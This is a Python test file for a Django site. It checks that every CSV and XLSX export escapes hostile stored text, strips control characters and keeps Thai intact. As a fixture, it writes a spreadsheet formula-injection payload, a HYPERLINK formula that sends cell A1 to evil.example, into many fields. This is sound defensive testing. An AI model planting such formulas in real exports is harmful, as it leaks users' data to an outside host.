"""Every CSV and XLSX the site offers, made from stored text at its worst and read back.

The world's objects get a hostile value where each export shows text: a formula that would
send the sheet's cells away, control characters (stored before input was cleaned, they
broke the XLSX files) and Thai. Each export is fetched as the region's secretariat (who sees
every column) and read back with `csv` and `openpyxl`: the formula is text (a leading
apostrophe), no control character is left, Thai is intact, the CSV starts with a byte order
mark, and the download is private and named from what it holds.
"""

import csv
import io
import re

import openpyxl
import pytest
from django.contrib.contenttypes.models import ContentType

from secretariat.core.models import AuditEntry

from .conftest import client_as
from .test_permission_matrix import EXPECTED

CONTROL = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f]")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"x")'
THAI = "ศุลกากรภูมิภาค"
HOSTILE = f"{FORMULA} \x02\x0b{THAI}"
SAFE = f"'{FORMULA} {THAI}"  # what a reader's spreadsheet must hold
EXPORTS = [
    ("decisions:register-export", "csv"),
    ("decisions:register-export", "xlsx"),
    ("meetings:participant-csv", "csv"),
    ("meetings:registration-csv", "csv"),
    ("plans:indicators-csv", "csv"),
    ("plans:indicators-xlsx", "xlsx"),
    ("plans:progress-csv", "csv"),
    ("plans:progress-xlsx", "xlsx"),
    ("plans:survey-results-csv", "csv"),
    ("practices:practice-export", "csv"),
    ("practices:practice-export", "xlsx"),
    ("practices:reference-export", "csv"),
    ("practices:reference-export", "xlsx"),
    ("regions:audit-export", "csv"),
]


def test_every_export_is_listed():
    """A new CSV or XLSX address must join EXPORTS (and so this test)."""
    offered = {
        key
        for key, method in EXPECTED
        if method == "GET"
        and not key.startswith(("api:", "admin:", "route:"))
        and (key.endswith(("-csv", "-xlsx", "export")))
    }
    assert offered == {key for key, _fmt in EXPORTS}


@pytest.fixture
def hostile(world, db):
    """Hostile text stored where every export shows it (as old rows may hold it)."""
    from secretariat.decisions.models import Decision
    from secretariat.meetings.models import Delegate, RegistrationQuestion, Session
    from secretariat.plans.models import Answer, Indicator, ProgressUpdate, Question
    from secretariat.practices.models import Practice, ReferenceRow
    from secretariat.regions.models import Person

    region = world.region
    Decision.objects.filter(region=region).update(title_en=HOSTILE)
    people = Delegate.objects.filter(delegation__invitation__session__region=region)
    Person.objects.filter(pk__in=people.values("person")).update(position_en=HOSTILE)
    for session in Session.objects.filter(region=region):
        RegistrationQuestion.objects.create(session=session, text_en=HOSTILE)
    Indicator.objects.filter(objective__focus_area__plan__region=region).update(title_en=HOSTILE)
    ProgressUpdate.objects.filter(period__plan__region=region).update(narrative=HOSTILE)
    Question.objects.filter(survey__region=region).update(text_en=HOSTILE)
    Answer.objects.filter(question__survey__region=region, question__kind="text").update(
        value=HOSTILE
    )
    Practice.objects.filter(region=region).update(title=HOSTILE)
    ReferenceRow.objects.filter(reference_list__region=region).update(description=HOSTILE)
    AuditEntry.objects.create(
        region_id=region.pk,
        action="updated",
        target_type=ContentType.objects.get_for_model(Decision),
        target_id="0",
        target_repr=HOSTILE,
        note=HOSTILE,
    )


def read_back(response, fmt) -> list[list[str]]:
    if fmt == "csv":
        assert response.content.startswith(b"\xef\xbb\xbf"), "no byte order mark"
        text = response.content.decode("utf-8-sig")
        return [row for row in csv.reader(io.StringIO(text, newline=""))]
    book = openpyxl.load_workbook(io.BytesIO(response.content))
    return [["" if v is None else str(v) for v in row] for row in book.active.values]


@pytest.mark.parametrize(("key", "fmt"), EXPORTS)
def test_export_is_safe_in_a_spreadsheet(key, fmt, world, addresses, hostile, db):
    url = addresses[key]
    if fmt == "xlsx" and url.endswith(".csv"):
        url = url.removesuffix(".csv") + ".xlsx"
    response = client_as(world, "sam").get(url)
    assert response.status_code == 200, url
    assert response["Cache-Control"] == "private, no-store"
    disposition = response["Content-Disposition"]
    assert disposition.startswith('attachment; filename="ap-'), disposition
    assert disposition.endswith(f'.{fmt}"'), disposition
    rows = read_back(response, fmt)
    cells = [c for row in rows for c in row]
    assert len(rows) > 1, f"{url}: no rows"
    assert SAFE in cells, f"{url}: the hostile cell is not kept as safe text"
    assert not [c for c in cells if "HYPERLINK" in c and not c.startswith("'")], url
    assert not [c for c in cells if CONTROL.search(c)], f"{url}: control characters left"
